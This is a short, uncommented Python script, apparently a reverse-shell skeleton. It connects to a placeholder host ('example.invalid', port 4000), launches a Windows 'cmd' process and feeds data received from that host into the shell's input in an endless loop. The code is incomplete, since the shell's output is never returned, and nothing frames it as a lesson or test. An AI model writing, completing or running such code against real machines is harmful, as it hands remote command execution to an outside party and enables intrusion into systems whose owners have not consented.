import socket
import subprocess

client = socket.create_connection(("example.invalid", 4000))
shell = subprocess.Popen(["cmd"], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
while True:
    shell.stdin.write(client.recv(1024))
